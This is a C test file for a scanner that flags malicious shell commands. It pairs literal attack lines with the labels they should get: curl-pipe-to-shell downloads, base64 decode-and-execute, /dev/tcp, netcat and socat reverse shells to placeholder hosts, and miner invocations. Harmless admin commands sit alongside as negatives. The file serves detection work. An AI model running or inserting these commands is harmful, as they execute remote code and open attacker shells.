/* SPDX-License-Identifier: Apache-2.0 */
/* Command lines as malware writes them, beside those that administrators write every day. */
#include "base/buf.h"
#include "base/tap.h"
#include "scan/checks/guarded.h"
#include "scan/checks/suspect.h"

static const struct {
    const char *command, *reason; /* NULL: none */
} commands[] = {
    {"curl -fsSL http://198.51.100.7/x.sh | sh", "download-run"},
    {"wget -qO- http://a.example/x|bash -s -- --quiet", "download-run"},
    {"(curl -s http://a.example/x || wget -qO- http://a.example/x) | sudo bash", "download-run"},
    {"bash -c \"curl -s http://a.example/x | bash\"", "download-run"},
    {"bash <(curl -s http://a.example/x)", "download-run"},
    {"sh -c \"$(curl -fsSL http://a.example/x)\"", "download-run"},
    {"eval `wget -qO- http://a.example/x`", "download-run"},
    {"$(curl -s http://a.example/x)", "download-run"},
    {"curl http://a.example/x.py | python3 -", "download-run"},
    {"PROMPT_COMMAND='curl -s http://a.example/x | sh'", "download-run"},
    {"timeout 20 curl http://a.example/x | nohup sh", "download-run"},
    {"curl -s http://a.example/x | tee /var/log/x | sh", "download-run"},
    {"echo Y3VybA== | base64 -d | sh", "decode-run"},
    {"echo Y3VybA== | openssl enc -base64 -d | bash", "decode-run"},
    {"eval \"$(echo Y3VybA== | base64 --decode)\"", "decode-run"},
    {"python3 -c 'import base64;exec(base64.b64decode(\"eA==\"))'", "decode-run"},
    {"bash -i >& /dev/tcp/198.51.100.7/443 0>&1", "reverse-shell"},
    {"nc -e /bin/sh 198.51.100.7 4444", "reverse-shell"},
    {"rm -f /run/f; mkfifo /run/f; cat /run/f | sh -i 2>&1 | nc 198.51.100.7 1 > /run/f",
     "reverse-shell"},
    {"socat exec:'bash -li',pty tcp:198.51.100.7:4444", "reverse-shell"},
    {"python -c 'import socket,subprocess,os;s=socket.socket()'", "inline-socket"},
    {"perl -e 'use Socket;$i=\"198.51.100.7\";'", "inline-socket"},
    {"/usr/bin/x -o stratum+tcp://pool.example:3333 -u w", "miner"},
    {"chattr +i /etc/cron.d/x", "immutable"},
    {"/tmp/.x/run", "temporary-folder"},
    {"sh /dev/shm/a.sh", "temporary-folder"},
    {". /var/tmp/a", "temporary-folder"},
    {"alias sudo='/tmp/x'", "temporary-folder"},
    {"nohup /srv/an/.x/run >/dev/null 2>&1 &", "hidden-folder"},
    {"cd / && run-parts --report /etc/cron.hourly", NULL},
    {"test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }", NULL},
    {"curl -s http://a.example/health > /dev/null", NULL},
    {"curl -s http://a.example/x | grep -q ok && sh /opt/app/ok.sh", NULL},
    {"curl -s http://a.example/x.json | python3 -m json.tool", NULL},
    {"curl -s http://a.example/x.json | python3 -c 'import json'", NULL},
    {"wget -qO- http://a.example/k.asc | gpg --dearmor > /etc/apt/k.gpg", NULL},
    {"VERSION=$(curl -s http://a.example/version)", NULL},
    {"echo 'curl http://a.example/x | sh'", NULL},
    {"# curl http://a.example/x | sh", NULL},
    {"eval \"$(dircolors -b)\"", NULL},
    {"eval `ssh-agent -s`", NULL},
    {"eval \"$(/srv/an/.pyenv/bin/pyenv init -)\"", NULL},
    {"DIR=\"/tmp/$1\"", NULL},
    {"rm -rf /tmp/session", NULL},
    {"find /tmp -mtime +7 -delete", NULL},
    {"mysqldump db | gzip | base64 > /srv/backup", NULL},
    {"/srv/an/.local/bin/backup", NULL},
    {"nc -z localhost 22", NULL},
    {"chattr -i /etc/resolv.conf", NULL},
    {"\"", NULL},
    {"'", NULL},
    {"$(", NULL},
    {"))))", NULL},
    {"|", NULL},
    {"\\", NULL},
    {"", NULL},
};

static void
test_commands(void)
{
    for (size_t i = 0; i < sizeof commands / sizeof *commands; i++) {
        struct suspicion suspicion;
        bool found = suspect_command(str_of(commands[i].command), &suspicion);
        tap_eq_z(found ? suspicion.reason->id : "none",
                 commands[i].reason ? commands[i].reason : "none", "%s", commands[i].command);
    }
}

static void
test_caps(void)
{
    struct command_line line;
    struct buf text = BUF(1 << 20);
    for (size_t i = 0; i < 40000; i++)
        buf_z(&text, "$(");
    command_parse(buf_view(&text), &line);
    tap_ok(line.is_cut, "more than fits is told");
    command_clear(&line);
    buf_reset(&text);
    for (size_t i = 0; i < 30000; i++)
        buf_z(&text, "a|");
    command_parse(buf_view(&text), &line);
    tap_ok(line.is_cut && line.stage_count == COMMAND_STAGES, "stages have a cap");
    command_clear(&line);
    buf_clear(&text);
}

static void
test_lines(void)
{
    struct script_lines lines = SCRIPT_LINES(STR("# curl\n\ncurl x \\\n  -s |\n sh\nlast\\"));
    str line;
    struct suspicion suspicion;
    tap_ok(script_line(&lines, &line), "a line");
    tap_eq_i64(lines.line, 3, "with its number");
    tap_ok(suspect_command(line, &suspicion), "and what continues it");
    tap_ok(script_line(&lines, &line), "one more");
    tap_eq_i64(lines.line, 6, "with its number");
    tap_ok(!script_line(&lines, &line), "and no more");
}

static void
test_guarded(void)
{
    tap_eq_i64(guarded_find(STR("security.debian.org")), GUARDED_UPDATES, "of updates");
    tap_eq_i64(guarded_find(STR("VCBdigibank.Vietcombank.com.vn.")), GUARDED_MONEY, "of a bank");
    tap_eq_i64(guarded_find(STR("update.ESET.com")), GUARDED_SECURITY, "of an antivirus");
    tap_eq_i64(guarded_find(STR("dichvucong.gov.vn")), GUARDED_MONEY, "of the state");
    tap_eq_i64(guarded_find(STR("www.ncsc.gov.vn")), GUARDED_SECURITY, "the longest decides");
    tap_eq_i64(guarded_find(STR("download.microsoft.com")), GUARDED_UPDATES, "here too");
    tap_eq_i64(guarded_find(STR("notdebian.org")), GUARDED_NOT, "another");
    tap_eq_i64(guarded_find(STR("")), GUARDED_NOT, "none");
}

int
main(void)
{
    test_commands();
    test_caps();
    test_lines();
    test_guarded();
    return tap_done();
}
